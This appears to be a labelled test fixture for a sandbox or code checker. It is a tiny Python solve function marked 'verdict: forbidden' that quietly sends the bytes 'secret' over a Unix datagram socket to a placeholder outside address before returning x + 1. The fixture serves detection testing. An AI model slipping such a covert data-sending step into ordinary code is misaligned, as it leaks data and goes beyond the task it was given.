# verdict: forbidden
import socket


def solve(x):
    left, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    left.sendto(b"secret", "@OUTSIDE@/datagrams")
    return x + 1
